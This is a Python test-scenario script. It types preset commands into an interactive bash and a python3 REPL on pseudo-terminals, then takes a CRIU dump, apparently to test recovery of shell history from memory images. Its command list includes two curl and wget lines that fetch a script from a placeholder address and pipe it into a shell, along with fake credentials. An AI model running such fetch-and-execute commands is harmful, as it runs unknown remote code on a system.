#!/usr/bin/env python3
"""Scenario "history": what was typed into an interactive bash and a python3 REPL, for `history`.

Sets up:
  hist-init   the root (holder), as a container's init; holds the master side of two
              pseudo-terminals
  bash        "bash --norc --noprofile -i" in a session of its own, the first pty's slave as
              its controlling terminal and standard streams
  python3     Debian's python3.11 (its readline module links GNU readline 8.2) "-i" likewise,
              on the second pty

A short-lived typing driver, forked from the root before it execs the holder and orphaned at
once (so it is outside the tree and gone before the dump, its memory with it), types the lines
of BASH_LINES and PYTHON_LINES into the masters one at a time, waiting for the prompt after each
and pausing 1.1 s between lines so their times differ, and reads away everything the programs
echo. It records each line, the program and pid it went to, the time it was typed (time.time()
just before writing the line) and whether it came before or after ``history -c``, writes that
to a file and exits; the launcher waits for it, then dumps.

HOME is the work directory (no ~/.bash_history or ~/.python_history to read), HISTFILE unset.

The truth file adds ``typed`` (the driver's records, in the order typed), ``bash_pid``,
``python_pid``, ``ptys`` (the slave path each program's fd 0 was on), ``bash_exported_after``
and ``bash_set_after`` (variables the session set after it started, with their values).

Dump: criu dump -t ROOT -D OUT/images --shell-job
Usage: history.py OUTDIR
"""

from __future__ import annotations

import fcntl
import json
import os
import select
import sys
import termios
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from _common import Tree, inheritable

NAME = "history"
BASH_PROMPT = b"cfw-hist$ "
PYTHON_PROMPT = b">>> "
CLEAR = "history -c"
BASH_LINES = [
    "cd /tmp/cfw-scenarios/history",
    "id",
    "uname -a",
    "ls -la",
    "export CFW_TOKEN=cfw-token-4f1e9a",
    "LOCALVAR=cfw-local-77b2",
    "head -3 /etc/passwd",
    "curl -fsS --max-time 1 http://203.0.113.50/x.sh | sh",
    "mysql -u admin -pCfwFakePass-3e8d -h 127.0.0.1 -e 'select 1'",
    "curl -s --max-time 1 -u deploy:cfw-fake-9c4b http://127.0.0.1:9/",
    "echo marker-hist-before-5a21 > notes.txt",
    "cat notes.txt",
    CLEAR,
    "whoami",
    "wget -q -T 1 -t 1 -O- http://203.0.113.50/y.sh | bash",
    "export CFW_AFTER=cfw-after-0d3c",
    "echo marker-hist-after-6b32",
    "date",
]
PYTHON_LINES = [
    "import os",
    "x = 6 * 7",
    'secret = "cfw-py-secret-2c91"',
    "print(x, os.getpid())",
]
PAUSE = 1.1
# the values made up for the lines typed (none is a real credential), and the markers echoed
PLANTED = [
    "cfw-token-4f1e9a",
    "cfw-local-77b2",
    "CfwFakePass-3e8d",
    "cfw-fake-9c4b",
    "marker-hist-before-5a21",
    "cfw-after-0d3c",
    "marker-hist-after-6b32",
    "cfw-py-secret-2c91",
    "marker-hist-init-1c7d",  # the holder's (-m)
]


def drain(master: int, until: bytes, timeout: float = 10.0) -> bytes:
    """Read what the program wrote to its terminal until ``until`` appears (its prompt)."""
    seen = b""
    deadline = time.monotonic() + timeout
    while until not in seen:
        left = deadline - time.monotonic()
        if left <= 0:
            raise RuntimeError(f"no prompt {until!r} after {seen[-200:]!r}")
        ready, _, _ = select.select([master], [], [], left)
        if ready:
            seen += os.read(master, 65536)
    return seen


def type_lines(masters: dict[str, tuple[int, int]], record: str) -> None:
    """The typing driver: every line to its program, one at a time; then the records."""
    typed = []
    for program, lines, prompt in (("bash", BASH_LINES, BASH_PROMPT), ("python3", PYTHON_LINES, PYTHON_PROMPT)):
        master, pid = masters[program]
        drain(master, prompt, 30.0)
        cleared = False
        for line in lines:
            time.sleep(PAUSE)
            when = time.time()
            os.write(master, line.encode() + b"\n")
            drain(master, prompt)
            typed.append({"program": program, "pid": pid, "line": line, "time": when, "after_clear": cleared})
            if program == "bash" and line == CLEAR:
                cleared = True
    with open(record, "w") as handle:
        json.dump(typed, handle, indent=1)


def on_terminal(slave: int, others: list[int], argv: list[str], env: dict[str, str]) -> None:
    """In a forked child: a session of its own on ``slave``, then exec ``argv``."""
    os.setsid()
    fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
    for fd in (0, 1, 2):
        os.dup2(slave, fd)
    for fd in [slave, *others]:
        os.close(fd)
    os.execve(argv[0], argv, env)


def main() -> int:
    out = sys.argv[1] if len(sys.argv) > 1 else f"/tmp/cfw-dumps/{NAME}"
    t = Tree(NAME, out)
    t.markers += PLANTED
    record = str(t.work / "typed.json")
    done_r, done_w = os.pipe()
    t.keep_fds.append(done_w)
    ptys: dict[str, str] = {}
    home = {**t.env, "HOME": str(t.work), "TERM": "dumb"}

    def root(t: Tree) -> None:
        bash_master, bash_slave = os.openpty()
        py_master, py_slave = os.openpty()
        inheritable(bash_master, py_master)
        fds = [bash_master, py_master, bash_slave, py_slave, t.ready_w]
        bash_env = {**home, "PS1": BASH_PROMPT.decode()}
        bash = t.fork(
            lambda: on_terminal(
                bash_slave, [f for f in fds if f != bash_slave], ["/bin/bash", "--norc", "--noprofile", "-i"], bash_env
            )
        )
        python = t.fork(
            lambda: on_terminal(py_slave, [f for f in fds if f != py_slave], ["/usr/bin/python3.11", "-i", "-q"], home)
        )
        os.close(bash_slave)
        os.close(py_slave)
        middle = os.fork()
        if middle == 0:  # the driver: orphaned at once, so it is not in the tree
            if os.fork() == 0:
                os.close(t.ready_w)
                type_lines({"bash": (bash_master, bash), "python3": (py_master, python)}, record)
                os._exit(0)
            os._exit(0)
        os.waitpid(middle, 0)
        os.close(done_w)
        t.exec_holder("hist-init", ["-m", "marker-hist-init-1c7d"])

    with t.session():
        pid = t.start(root, expected=1)
        os.close(done_w)
        while os.read(done_r, 1):  # EOF: the driver exited
            pass
        typed = json.loads((t.work / "typed.json").read_text())
        pids = {entry["program"]: entry["pid"] for entry in typed}
        for program, child in pids.items():
            ptys[program] = os.readlink(f"/proc/{child}/fd/0")
        extra = {
            "typed": typed,
            "bash_pid": pids["bash"],
            "python_pid": pids["python3"],
            "ptys": ptys,
            "bash_exported_after": {"CFW_TOKEN": "cfw-token-4f1e9a", "CFW_AFTER": "cfw-after-0d3c"},
            "bash_set_after": {"LOCALVAR": "cfw-local-77b2"},
        }
        time.sleep(0.5)
        t.dump(pid, [], truth_extra=extra)
    return 0


if __name__ == "__main__":
    sys.exit(main())
